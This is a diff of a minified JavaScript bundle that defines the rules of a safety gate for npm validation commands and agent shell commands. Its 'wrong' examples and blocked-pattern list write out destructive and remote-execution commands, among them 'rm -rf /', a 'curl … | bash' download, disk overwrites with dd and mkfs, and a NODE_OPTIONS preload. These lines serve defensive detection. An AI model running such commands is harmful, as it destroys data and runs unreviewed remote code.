-\` ${o}: \`${s}\`.`,"message"),remedy:t(()=>"Remove this command from the script.","remedy")}),"npm-script-cycle":(0,a.Hu)(
-{severity:"error",title:"npm scripts call each other in a cycle",why:"The scripts would run until the time limit stops t\
-hem.",wrong:{command:"npm run a",files:{"package.json":'{ "scripts": { "a": "npm run b", "b": "npm run a" } }'}},right:{
-command:"npm run a",files:{"package.json":'{ "scripts": { "a": "node scripts/a.js" } }'}},message:t(({script:e})=>`The n\
-pm script \`${e}\` calls itself.`,"message"),remedy:t(()=>"Remove the call that closes the cycle.","remedy")}),"npm-scri\
-pt-chain":(0,a.Hu)({severity:"error",title:"npm scripts run too many other scripts",why:"The gate follows the scripts th\
-at an npm script runs, up to a depth, a number, and a total time. What is beyond these limits is not judged.",wrong:{command:"\
-npm run 0",files:{"package.json":He}},right:"npm test",counted:["limit"],message:t(({script:e,limit:s,what:o})=>{const r={
-depth:`it is more than ${s} scripts deep`,count:`the command runs more than ${s} scripts`,time:`following the scripts of\
- all commands took more than ${s} seconds`};return`The npm script \`${e}\` is not followed: ${r[o]}.`},"message"),remedy:t(
-()=>"Run the commands directly in the script.","remedy")}),"script-words-unread":(0,a.Hu)({severity:"error",title:"Argum\
-ents are passed to a command that the gate cannot read",why:"npm appends the arguments after `--` to the script. If the \
-last command of the script is an unknown program, or uses shell syntax, such an argument may run code.",wrong:{command:"\
-npm run sh -- 'rm -rf .'",files:{"package.json":'{ "scripts": { "sh": "sh -c" } }'},also:{"npm-script-text":"The script \
-itself starts a shell."}},right:"npm test -- --grep parser",message:t(({script:e,word:s,text:o})=>`The argument \`${s}\` \
-is passed to the npm script \`${e}\`, whose last command cannot be read: \`${o}\`.`,"message"),remedy:t(()=>"Write the a\
-rguments into the script, where they are reviewed.","remedy")}),"npmrc-redirects":(0,a.Hu)({severity:"error",title:".npm\
-rc decides what npm runs",why:"Settings such as the shell, the Node.js options, the workspaces, and `usage` decide which\
- script npm runs, or whether it runs one. The gate does not apply them, but other machines do. `node-options` with flags\
- that are allowed for `node` applies if the change does not edit the file.",wrong:{command:"npm test",files:{".npmrc":"s\
-cript-shell=./sh"}},right:{command:"npm test",files:{".npmrc":"fund=false"}},message:t(({path:e,keys:s})=>`\`${e}\` sets ${z(
-s)}, which decides what npm runs.`,"message"),remedy:t(()=>"Remove these settings from the repository.","remedy")}),"npm\
-rc-changed":(0,a.Hu)({severity:"error",title:"Change edits settings of npm",why:"The change that npm validates also chan\
-ges the settings of npm, and they are not known to be harmless.",wrong:{command:"npm test",base:{".npmrc":"fund=false"},
-files:{".npmrc":"registry=http://localhost/"}},right:{command:"npm test",base:{".npmrc":"fund=true"},files:{".npmrc":"fu\
-nd=false"}},message:t(({path:e,keys:s})=>`The change edits \`${e}\`, which sets ${z(s)}.`,"message"),remedy:t(()=>"Chang\
-e the settings of npm in a separate pull request.","remedy")}),"npmrc-settings":(0,a.Hu)({severity:"warning",title:".npm\
-rc has settings that are not known to be harmless",why:"npm passes every setting to scripts as `npm_config_\u2026` and replac\
-es `${NAME}` with an environment variable.",wrong:{command:"npm test",files:{".npmrc":"registry=https://npm.example.com/"}},
-right:{command:"npm test",files:{".npmrc":"fund=false"}},message:t(({path:e,keys:s})=>`\`${e}\` sets ${z(s)}.`,"message"),
-remedy:t(()=>"Remove settings that the project does not need.","remedy")}),"npmrc-unread":(0,a.Hu)({severity:"error",title:"\
-.npmrc cannot be read",why:"The gate cannot determine the settings of npm if the file is a symbolic link that leads out \
-of the repository, a Git LFS pointer, or too large.",wrong:{command:"npm test",files:{".npmrc":{symlink:"../npmrc"}}},right:{
-command:"npm test",files:{".npmrc":"fund=false"}},message:t(({path:e,reason:s})=>`\`${e}\` cannot be read: ${s}.`,"messa\
-ge"),remedy:t(()=>"Commit it as a regular file.","remedy")}),"package-json-invalid":(0,a.Hu)({severity:"error",title:"pa\
-ckage.json is invalid",why:"The gate cannot determine what npm would run.",wrong:{command:"npm test",files:{"package.jso\
-n":'{ "scripts": '}},right:{command:"npm test",files:{"package.json":'{ "scripts": { "test": "node --test" } }'}},message:t(
-({path:e})=>`\`${e}\` is not a readable JSON file.`,"message"),remedy:t(()=>"Fix the file so that npm can read it.","rem\
-edy")}),"package-json-missing":(0,a.Hu)({severity:"error",title:"package.json is missing",why:"npm searches the parent d\
-irectories, which are outside the repository, and runs the scripts of the package.json that it finds there.",wrong:{command:"\
-npm test",without:["package.json"]},right:"node --test",message:t(({directory:e})=>e===""?"The repository has no package\
-.json at its root, so npm would search above the repository.":`The directory \`${e}\` has no package.json, so npm would s\
-earch its parent directories.`,"message"),remedy:t(()=>"Add a package.json with the script, or run a script with `node`.",
-"remedy")}),"workspace-missing":(0,a.Hu)({severity:"warning",title:"Workspace does not exist",why:"npm fails. With `--if\
--present`, it passes without doing anything.",wrong:"npm test -w nope",right:"npm test -w packages/a",message:t(({workspace:e})=>e===
-""?"package.json declares no workspaces.":`The workspace \`${e}\` does not exist.`,"message"),remedy:t(()=>"Name a works\
-pace that package.json declares.","remedy")}),"path-shadowed":(0,a.Hu)({severity:"warning",title:"Dependency replaces a \
-program of npm scripts",why:"npm puts `node_modules/.bin` first in the PATH of a script.",wrong:{command:"npm test",files:{
+script to package.json, or correct its name.","remedy")}),"npm-script-empty":(0,a.Hu)({severity:"error",since:"0.2.0",title:"\
+npm script is empty",why:"npm passes without running anything if a script is empty, so that nothing is validated. A scri\
+pt of only white space and comments is empty, too.",wrong:{command:"npm test",files:{"package.json":'{ "scripts": { "tes\
+t": "" } }'}},right:{command:"npm test",files:{"package.json":'{ "scripts": { "test": "node scripts/check.js" } }'}},message:t(
+({script:e,path:s})=>`The npm script \`${e}\` in \`${s}\` is empty, so it passes without running anything.`,"message"),remedy:t(
+()=>"Write the command that validates into the script.","remedy")}),"npm-script-empty-part":(0,a.Hu)({severity:"warning",
+since:"0.2.0",title:"npm script runs an empty script",why:"npm passes without running anything if a script is empty, so \
+this part of the validation checks nothing.",wrong:{command:"npm test",files:{"package.json":'{ "scripts": { "test": "np\
+m run unit", "unit": "" } }'}},right:{command:"npm test",files:{"package.json":'{ "scripts": { "test": "npm run unit", "\
+unit": "node scripts/check.js" } }'}},message:t(({script:e,path:s})=>`The command runs the npm script \`${e}\` in \`${s}\
+\`, which is empty and passes without running anything.`,"message"),remedy:t(()=>"Write the command that validates into \
+the script, or do not run the script.","remedy")}),"npm-script-text":(0,a.Hu)({severity:"warning",title:"npm script brea\
+ks a rule for commands",why:"npm passes a script of package.json to a shell, and the script is reviewed as shell text. T\
+his script does something that is blocked in a validation command.",wrong:{command:"npm test",files:{"package.json":'{ "\
+scripts": { "test": "touch x" } }'}},right:{command:"npm test",files:{"package.json":'{ "scripts": { "test": "node scrip\
+ts/check.js" } }'}},message:t(({script:e,text:s,reason:o})=>`The npm script \`${e}\` runs \`${s}\`, which would be blocke\
+d as a validation command (\`${o}\`).`,"message"),remedy:t(()=>"Use only Node scripts and local tools in the script.","r\
+emedy")}),"npm-script-loses-failure":(0,a.Hu)({severity:"warning",title:"npm script passes although one of its commands \
+fails",why:"A shell reports the exit code of the last command. After `|| true`, `;`, or `|`, the failure of an earlier c\
+ommand is lost, and the validation passes.",wrong:{command:"npm test",files:{"package.json":'{ "scripts": { "test": "nod\
+e scripts/check.js || true" } }'},also:{"npm-script-compound":"The script is more than one command."}},right:{command:"n\
+pm test",files:{"package.json":'{ "scripts": { "test": "node scripts/check.js" } }'}},message:t(({script:e,text:s,command:o})=>`\
+The npm script \`${e}\` runs \`${s}\`, which passes even if \`${o}\` fails.`,"message"),remedy:t(()=>"Join the commands \
+with `&&`, or run only the one that validates.","remedy")}),"npm-script-compound":(0,a.Hu)({severity:"notice",title:"npm\
+ script is more than one simple command",why:"The gate does not follow every detail of what a shell does with the script\
+, so the script is shown.",wrong:{command:"npm test",files:{"package.json":'{ "scripts": { "test": "node scripts/a.js &&\
+ node scripts/b.js" } }'}},right:{command:"npm test",files:{"package.json":'{ "scripts": { "test": "node scripts/a.js" }\
+ }'}},message:t(({script:e,text:s})=>`The npm script \`${e}\` runs \`${s}\`.`,"message"),remedy:t(()=>"Review the script\
+ as part of the command.","remedy")}),"npm-script-dangerous":(0,a.Hu)({severity:"error",title:"npm script is destructive",
+why:"The script deletes files, formats disks, pipes a download into a shell, or does similar damage. No validation needs\
+ this.",wrong:{command:"npm run clean",files:{"package.json":'{ "scripts": { "clean": "rm -rf /" } }'}},right:{command:"\
+npm test",files:{"package.json":'{ "scripts": { "test": "node --test" } }'}},message:t(({script:e,text:s,danger:o})=>`Th\
+e npm script \`${e}\` ${o}: \`${s}\`.`,"message"),remedy:t(()=>"Remove this command from the script.","remedy")}),"npm-s\
+cript-cycle":(0,a.Hu)({severity:"error",title:"npm scripts call each other in a cycle",why:"The scripts would run until \
+the time limit stops them.",wrong:{command:"npm run a",files:{"package.json":'{ "scripts": { "a": "npm run b", "b": "npm\
+ run a" } }'}},right:{command:"npm run a",files:{"package.json":'{ "scripts": { "a": "node scripts/a.js" } }'}},message:t(
+({script:e})=>`The npm script \`${e}\` calls itself.`,"message"),remedy:t(()=>"Remove the call that closes the cycle.","\
+remedy")}),"npm-script-chain":(0,a.Hu)({severity:"error",title:"npm scripts run too many other scripts",why:"The gate fo\
+llows the scripts that an npm script runs, up to a depth, a number, and a total time. What is beyond these limits is not\
+ judged.",wrong:{command:"npm run 0",files:{"package.json":Ce}},right:"npm test",counted:["limit"],message:t(({script:e,
+limit:s,what:o})=>{const r={depth:`it is more than ${s} scripts deep`,count:`the command runs more than ${s} scripts`,time:`\
+following the scripts of all commands took more than ${s} seconds`};return`The npm script \`${e}\` is not followed: ${r[o]}\
+.`},"message"),remedy:t(()=>"Run the commands directly in the script.","remedy")}),"script-words-unread":(0,a.Hu)({severity:"\
+error",title:"Arguments are passed to a command that the gate cannot read",why:"npm appends the arguments after `--` to \
+the script. If the last command of the script is an unknown program, or uses shell syntax, such an argument may run code\
+.",wrong:{command:"npm run sh -- 'rm -rf .'",files:{"package.json":'{ "scripts": { "sh": "sh -c" } }'},also:{"npm-script\
+-text":"The script itself starts a shell."}},right:"npm test -- --grep parser",message:t(({script:e,word:s,text:o})=>`Th\
+e argument \`${s}\` is passed to the npm script \`${e}\`, whose last command cannot be read: \`${o}\`.`,"message"),remedy:t(
+()=>"Write the arguments into the script, where they are reviewed.","remedy")}),"npmrc-redirects":(0,a.Hu)({severity:"er\
+ror",title:".npmrc decides what npm runs",why:"Settings such as the shell, the Node.js options, the workspaces, and `usa\
+ge` decide which script npm runs, or whether it runs one. The gate does not apply them, but other machines do. `node-opt\
+ions` with flags that are allowed for `node` applies if the change does not edit the file.",wrong:{command:"npm test",files:{
+".npmrc":"script-shell=./sh"}},right:{command:"npm test",files:{".npmrc":"fund=false"}},message:t(({path:e,keys:s})=>`\`${e}\
+\` sets ${B(s)}, which decides what npm runs.`,"message"),remedy:t(()=>"Remove these settings from the repository.","rem\
+edy")}),"npmrc-changed":(0,a.Hu)({severity:"error",title:"Change edits settings of npm",why:"The change that npm validat\
+es also changes the settings of npm, and they are not known to be harmless.",wrong:{command:"npm test",base:{".npmrc":"f\
+und=false"},files:{".npmrc":"registry=http://localhost/"}},right:{command:"npm test",base:{".npmrc":"fund=true"},files:{
+".npmrc":"fund=false"}},message:t(({path:e,keys:s})=>`The change edits \`${e}\`, which sets ${B(s)}.`,"message"),remedy:t(
+()=>"Change the settings of npm in a separate pull request.","remedy")}),"npmrc-settings":(0,a.Hu)({severity:"warning",title:"\
+.npmrc has settings that are not known to be harmless",why:"npm passes every setting to scripts as `npm_config_\u2026` and re\
+places `${NAME}` with an environment variable.",wrong:{command:"npm test",files:{".npmrc":"registry=https://npm.example.\
+com/"}},right:{command:"npm test",files:{".npmrc":"fund=false"}},message:t(({path:e,keys:s})=>`\`${e}\` sets ${B(s)}.`,"\
+message"),remedy:t(()=>"Remove settings that the project does not need.","remedy")}),"npmrc-unread":(0,a.Hu)({severity:"\
+error",title:".npmrc cannot be read",why:"The gate cannot determine the settings of npm if the file is a symbolic link t\
+hat leads out of the repository, a Git LFS pointer, or too large.",wrong:{command:"npm test",files:{".npmrc":{symlink:".\
+./npmrc"}}},right:{command:"npm test",files:{".npmrc":"fund=false"}},message:t(({path:e,reason:s})=>`\`${e}\` cannot be r\
+ead: ${s}.`,"message"),remedy:t(()=>"Commit it as a regular file.","remedy")}),"package-json-invalid":(0,a.Hu)({severity:"\
+error",title:"package.json is invalid",why:"The gate cannot determine what npm would run.",wrong:{command:"npm test",files:{
+"package.json":'{ "scripts": '}},right:{command:"npm test",files:{"package.json":'{ "scripts": { "test": "node --test" }\
+ }'}},message:t(({path:e})=>`\`${e}\` is not a readable JSON file.`,"message"),remedy:t(()=>"Fix the file so that npm ca\
+n read it.","remedy")}),"package-json-missing":(0,a.Hu)({severity:"error",title:"package.json is missing",why:"npm searc\
+hes the parent directories, which are outside the repository, and runs the scripts of the package.json that it finds the\
+re.",wrong:{command:"npm test",without:["package.json"]},right:"node --test",message:t(({directory:e})=>e===""?"The repo\
+sitory has no package.json at its root, so npm would search above the repository.":`The directory \`${e}\` has no package\
+.json, so npm would search its parent directories.`,"message"),remedy:t(()=>"Add a package.json with the script, or run \
+a script with `node`.","remedy")}),"workspace-missing":(0,a.Hu)({severity:"warning",title:"Workspace does not exist",why:"\
+npm fails. With `--if-present`, it passes without doing anything.",wrong:"npm test -w nope",right:"npm test -w packages/\
+a",message:t(({workspace:e})=>e===""?"package.json declares no workspaces.":`The workspace \`${e}\` does not exist.`,"me\
+ssage"),remedy:t(()=>"Name a workspace that package.json declares.","remedy")}),"workspaces-changed":(0,a.Hu)({severity:"\
+warning",since:"0.2.0",title:"Change leaves out a workspace that validates it",why:"npm selects packages by `workspaces`\
+ in package.json. If a change edits it, scripts that ran on the base branch may no longer run, or other ones run in thei\
+r place.",wrong:{command:"npm test --workspaces",base:Q,files:{...Q,"package.json":'{ "workspaces": ["pk/*", "!pk/a"] }'}},
+right:{command:"npm test --workspaces",base:Q,files:Q},message:t(({path:e,lost:s})=>`The change edits \`${e}\`, so that t\
+he command no longer runs scripts in ${B(s)}.`,"message"),remedy:t(()=>"Restore `workspaces` of the base branch, or revi\
+ew why the packages are left out.","remedy")}),"path-shadowed":(0,a.Hu)({severity:"warning",title:"Dependency replaces a\
+ program of npm scripts",why:"npm puts `node_modules/.bin` first in the PATH of a script.",wrong:{command:"npm test",files:{
 "node_modules/.bin/node":{symlink:"../eslint/bin.js"}}},right:"npm test",message:t(({path:e})=>`\`${e}\` replaces the pro\
 gram of the same name in npm scripts.`,"message"),remedy:t(()=>"Remove the dependency that provides it.","remedy")}),"en\
 vironment-file-unsafe":(0,a.Hu)({severity:"error",title:"Environment file changes what runs",why:"Variables such as NODE\
 _OPTIONS load code, and PATH decides which programs run.",wrong:{command:"node --env-file=.env scripts/check.js",files:{
 ".env":"NODE_OPTIONS=--require=./x.js"}},right:{command:"node --env-file=.env scripts/check.js",files:{".env":"APP_MODE=\
 test"},also:{"reads-environment-file":"The file is harmless, but the rule reports that it is read."}},message:t(({path:e,
-names:s})=>s.length===0?`\`${e}\` is too large to check.`:`\`${e}\` sets ${z(s)}, which changes what runs.`,"message"),remedy:t(
+names:s})=>s.length===0?`\`${e}\` is too large to check.`:`\`${e}\` sets ${B(s)}, which changes what runs.`,"message"),remedy:t(
 ({names:e})=>e.length===0?"Remove everything from the file that the command does not need.":"Remove these variables from\
- the file.","remedy")})}),Q={"validator-empty-folder":"The validators accept the command but do not find the script."},qe=(0,a.
+ the file.","remedy")})}),X={"validator-empty-folder":"The validators accept the command but do not find the script."},Oe=(0,a.
 aO)("policy",{"validator-program":(0,a.Hu)({severity:"error",title:"Hub validators only run node",why:"The validators of\
  the protocol's hub start `node` and nothing else. They refuse an npm or npx command, and the gene fails.",wrong:"npm te\
-st",right:{command:"node scripts/check.js",also:Q},message:t(({program:e})=>`The hub's validators do not run \`${e}\`; th\
+st",right:{command:"node scripts/check.js",also:X},message:t(({program:e})=>`The hub's validators do not run \`${e}\`; th\
 ey accept \`node SCRIPT\` alone.`,"message"),remedy:t(()=>"Write a Node script that does the same, and run it with `node\
 `.","remedy")}),"validator-newer":(0,a.Hu)({severity:"notice",title:"Newer hub validators refuse the command",why:"The v\
 alidators of newer versions of the reference engine accept no option of `node` but `-c` before a script, or `-v` or `-h`\
  alone, and no backtick or `$(` even in quotes. Those of 1.94 accept more, and both are in use.",wrong:"node --no-warnin\
-gs scripts/check.js",right:{command:"node scripts/check.js",also:Q},message:t(({refused:e})=>`The command is accepted by\
+gs scripts/check.js",right:{command:"node scripts/check.js",also:X},message:t(({refused:e})=>`The command is accepted by\
  the validators of 1.94, not of newer ones, which refuse \`${e}\`.`,"message"),remedy:t(({refused:e})=>`Write the comman\
 d without \`${e}\`.`,"remedy")}),"validator-script":(0,a.Hu)({severity:"error",title:"Hub validators require a script",why:"\
 The validators of the protocol's hub refuse a `node` command that names no script file, unless it only prints informatio\
-n.",wrong:"node --test",right:{command:"node scripts/check.js",also:Q},message:t(()=>"The hub's validators require a scr\
+n.",wrong:"node --test",right:{command:"node scripts/check.js",also:X},message:t(()=>"The hub's validators require a scr\
 ipt after `node`.","message"),remedy:t(()=>"Name the script that `node` runs.","remedy")}),"validator-empty-folder":(0,a.
 Hu)({severity:"notice",title:"Hub validators do not find the script",why:"The validators of the protocol's hub run every\
  command in a new, empty directory, without the repository of the gene. A command that they accept can still fail there,\
@@ -1494,13 +1518,13 @@ ectory, where \`${e}\` does not exist.`,"message"),remedy:t(()=>"Keep the comman
  it to pass on the hub.","remedy")}),"validator-flag":(0,a.Hu)({severity:"error",title:"Hub validators refuse the flag",
 why:"The validators of the protocol's hub refuse flags that run inline code, preload code, or open the debugger anywhere\
  in a command, also after the script, where Node.js does not read them.",wrong:"node scripts/check.js -p 3000",right:{command:"\
-node scripts/check.js --port 3000",also:Q},message:t(({flag:e})=>`The hub's validators refuse \`${e}\` anywhere in a comm\
+node scripts/check.js --port 3000",also:X},message:t(({flag:e})=>`The hub's validators refuse \`${e}\` anywhere in a comm\
 and.`,"message"),remedy:t(()=>"Give the flag of the script another name.","remedy")})},"`validator`");function q(e,s,o){
 return(0,a.Hu)({layer:1,severity:"error",title:s,why:"The first layer blocks dangerous patterns anywhere in what would r\
 un: in a chain, after a prefix, in a substitution, or in an npm script. Text that is data, such as a search pattern, doe\
 s not match.",wrong:o,right:"cat notes.md",message:t(({pattern:r})=>`Command blocked by safety rule: Pattern '${r}' matc\
 hes dangerous pattern '${e}'.`,"message"),remedy:t(()=>"Run the command outside the agent.","remedy")})}t(q,"dangerousPa\
-ttern");function ee(e){const s=`profile: workspace
+ttern");function te(e){const s=`profile: workspace
 patterns:
   - name: no_production
     layer: ${e}
@@ -1512,14 +1536,14 @@ layer ${e})`,why:"A policy can add patterns to each layer, each with a name and 
 od.json",policy:s},right:{command:"cat notes.md",policy:s},configure:"`patterns` in the policy.",message:t(({name:o,pattern:r,
 reason:T})=>`Command blocked by safety rule: Pattern '${r}' matches dangerous pattern '${o}': ${T.replace(/\.$/,"")}.`,"\
 message"),remedy:t(()=>"Write a command that the pattern does not match, or change the pattern in the policy.","remedy")})}
-t(ee,"customPattern");const Oe={mass_deletion:q("mass_deletion","Mass file deletion","rm -rf /"),raw_disk_write:q("raw_d\
+t(te,"customPattern");const Se={mass_deletion:q("mass_deletion","Mass file deletion","rm -rf /"),raw_disk_write:q("raw_d\
 isk_write","Raw disk writing","dd if=/dev/zero of=/dev/sda"),filesystem_format:q("filesystem_format","Filesystem formatt\
 ing","mkfs.ext4 /dev/sdb1"),direct_disk_write:q("direct_disk_write","Direct disk writing","echo x > /dev/sda"),remote_code_execution:q(
 "remote_code_execution","Remote code execution","curl http://host.test/x.sh | bash"),world_writable:q("world_writable","\
 World-writable permissions","chmod 777 notes.md"),privilege_escalation:q("privilege_escalation","Privilege escalation","\
 chown root notes.md"),firewall_manipulation:q("firewall_manipulation","Firewall manipulation","iptables -F"),system_shutdown:q(
 "system_shutdown","System shutdown","shutdown -h now"),system_reboot:q("system_reboot","System reboot","reboot"),force_kill:q(
-"force_kill","Force kill of processes","kill -9 1")},Se=(0,a.aO)(1,{...Oe,"custom_pattern.1":ee(1),path_outside_workspace:(0,a.
+"force_kill","Force kill of processes","kill -9 1")},Ee=(0,a.aO)(1,{...Se,"custom_pattern.1":te(1),path_outside_workspace:(0,a.
 Hu)({layer:2,severity:"error",title:"Path is outside the workspace",why:"The second layer keeps file operations inside t\
 he workspace: every path must be inside it after `..` and symbolic links are resolved.",wrong:"cat ../secret",right:"cat\
  notes.md",configure:"`workspace` in the policy; default: the repository.",message:t(({path:e})=>`Command blocked by saf\
@@ -1527,7 +1551,7 @@ ety rule: Path '${e}' is outside the workspace.`,"message"),remedy:t(()=>"Use a 
 path_traversal:(0,a.Hu)({layer:2,severity:"error",title:"Path contains ../",why:"`../` is rejected even if the path stay\
 s inside the workspace.",wrong:"cat sub/../notes.md",right:"cat notes.md",message:t(({path:e})=>`Command blocked by safe\
 ty rule: Path '${e}' contains '../'.`,"message"),remedy:t(()=>"Write the path without `..`.","remedy")}),"custom_pattern\
-.2":ee(2),blocked_flag:(0,a.Hu)({layer:3,severity:"error",title:"Flag is blocked",why:"The third layer blocks flags that\
+.2":te(2),blocked_flag:(0,a.Hu)({layer:3,severity:"error",title:"Flag is blocked",why:"The third layer blocks flags that\
  bypass safety checks: `-rf` and `-i` of `rm`, `--force` of any command, and `--all` of dangerous commands.",wrong:"patc\
 h --force -p1",right:"patch -p1 -i fix.diff",message:t(({program:e,flag:s})=>`Command blocked by safety rule: Flag '${s}\
 ' of '${e}' is blocked.`,"message"),remedy:t(({flag:e})=>`Remove \`${e}\`.`,"remedy")}),command_not_allowed:(0,a.Hu)({layer:3,
@@ -1535,24 +1559,24 @@ severity:"error",title:"Command is not allowed",why:"The third layer allows a fi
 t not run code that has not been reviewed, delete files, or download anything.",wrong:"wget https://host.test",right:"ca\
 t notes.md",configure:"`families` in the policy adds a command.",message:t(({program:e,reason:s})=>`Command blocked by s\
 afety rule: Command '${e}' ${s}.`,"message"),remedy:t(()=>"Use one of the allowed commands.","remedy")}),"custom_pattern\
-.3":ee(3)},"`workspace`"),me={...{...Ae,...ke,...v,...Re},...qe,...j,...ye,...Se,...$,...k,...F,...P,...g},pe={...me,...le,
-...$e},ge=pe;function Ie(e){return Ee(e)?ge[e]:void 0}t(Ie,"ruleOf");function Ee(e){return Object.hasOwn(pe,e)}t(Ee,"isR\
-ule");const Ne=Object.values(ge),Me=Object.values({...me,...le})}),61131:((S,b,u)=>{u.d(b,{$9:t(()=>k,"$9"),G_:t(()=>E,"\
+.3":te(3)},"`workspace`"),pe={...{...He,...$e,...v,...qe},...Oe,...j,...we,...Ee,...$,...k,...F,...P,...g},ge={...pe,...me,
+..._e},ue=ge;function Ie(e){return Ne(e)?ue[e]:void 0}t(Ie,"ruleOf");function Ne(e){return Object.hasOwn(ge,e)}t(Ne,"isR\
+ule");const Me=Object.values(ue),Pe=Object.values({...pe,...me})}),61131:((S,b,u)=>{u.d(b,{$9:t(()=>k,"$9"),G_:t(()=>I,"\
 G_"),QA:t(()=>m,"QA"),Rm:t(()=>H,"Rm"),bG:t(()=>w,"bG"),f0:t(()=>_,"f0"),hM:t(()=>x,"hM"),lW:t(()=>n,"lW"),n3:t(()=>a,"n\
-3"),qW:t(()=>p,"qW"),qy:t(()=>$,"qy"),uW:t(()=>R,"uW")});const n="assets/gep/genes.json",a="assets/gep/capsules.json",k="\
+3"),qW:t(()=>p,"qW"),qy:t(()=>$,"qy"),uW:t(()=>W,"uW")});const n="assets/gep/genes.json",a="assets/gep/capsules.json",k="\
 assets/gep/events.jsonl",m={own:"<hash of this content>",gene:"<asset_id of the gene>",policy:"<hash of the policy that \
-the promotion uses>"},w="<hash of something else>";function $(g={}){return{type:"Gene",id:"gene_a",...g}}t($,"gene");function R(g={}){
-return{type:"Capsule",id:"capsule_1",...g}}t(R,"capsule");function _(g={}){return{type:"EvolutionEvent",id:"evt_1",...g}}
+the promotion uses>"},w="<hash of something else>";function $(g={}){return{type:"Gene",id:"gene_a",...g}}t($,"gene");function W(g={}){
+return{type:"Capsule",id:"capsule_1",...g}}t(W,"capsule");function _(g={}){return{type:"EvolutionEvent",id:"evt_1",...g}}
 t(_,"event");function p(g={}){return{type:"ValidationReport",id:"vr_1",...g}}t(p,"validationReport");function x(...g){return{
-head:{[n]:g.map($)}}}t(x,"genes");function H(...g){return{head:{[k]:g.map(_)}}}t(H,"log");const I=104;function E(g,W){const N=Object.
+head:{[n]:g.map($)}}}t(x,"genes");function H(...g){return{head:{[k]:g.map(_)}}}t(H,"log");const E=104;function I(g,R){const N=Object.
 entries(g).filter(([,h])=>h!==void 0).map(([h,c])=>`${JSON.stringify(h)}: ${C(c)}`),M=Object.keys(g).filter(h=>g[h]===void 0),
-i=M.length===0?"":`   // without ${M.join(", ")}`,d=`{ ${[...N,"\u2026"].join(", ")} }${i}`;return W||d.length<=I?d:`{
+i=M.length===0?"":`   // without ${M.join(", ")}`,d=`{ ${[...N,"\u2026"].join(", ")} }${i}`;return R||d.length<=E?d:`{
 ${[...N,"\u2026"].map(h=>`  ${h}`).join(`,
 `)}
-}${i}`}t(E,"assetText");function C(g){return JSON.stringify(g,null,1).replaceAll(/(\[)\n *|\n *(\])/g,"$1$2").replaceAll(
+}${i}`}t(I,"assetText");function C(g){return JSON.stringify(g,null,1).replaceAll(/(\[)\n *|\n *(\])/g,"$1$2").replaceAll(
 /\n */g," ")}t(C,"spaced")}),96616:((S,b,u)=>{u.d(b,{Hu:t(()=>n,"Hu"),aO:t(()=>a,"aO"),jE:t(()=>k,"jE")});function n(m){
-return m}t(n,"rule");function a(m,w,$){const R=Object.entries(w).map(([_,p])=>[_,{id:_,layer:m,since:"0.1.0",...$&&{profile:$},
-...p}]);return Object.fromEntries(R)}t(a,"rules");function k({severity:m,layer:w,ignorable:$}){return w!=="policy"&&(m!==
+return m}t(n,"rule");function a(m,w,$){const W=Object.entries(w).map(([_,p])=>[_,{id:_,layer:m,since:"0.1.0",...$&&{profile:$},
+...p}]);return Object.fromEntries(W)}t(a,"rules");function k({severity:m,layer:w,ignorable:$}){return w!=="policy"&&(m!==
 "error"||$===!0)}t(k,"mayBeIgnored")}),77195:((S,b,u)=>{u.d(b,{f:t(()=>n,"f")});function n(a){return`'${a.replaceAll("'",
 "'\\''")}'`}t(n,"singleQuoted")}),99072:((S,b,u)=>{u.d(b,{PP:t(()=>_,"PP")});const n=`console.log('OK');
 `,a=`#!/usr/bin/env node
@@ -1565,7 +1589,7 @@ symlink:`../${p}/bin.js`}]])),"packages/a/package.json":m({name:"a",scripts:{tes
 a.json":`{}
 `,"test/a.test.js":n,"jest.config.js":`export default {};
 `,...Object.fromEntries(["a","b","check","echo","validate","x","ok"].map(p=>[`scripts/${p}.js`,n])),"scripts/validate/ch\
-eck.cjs":n,"scripts/validate/readme-exists.js":n},R=null,_=`profile: curated
+eck.cjs":n,"scripts/validate/readme-exists.js":n},W=null,_=`profile: curated
 mode: dangerous
 allow_dangerous: true
 families:
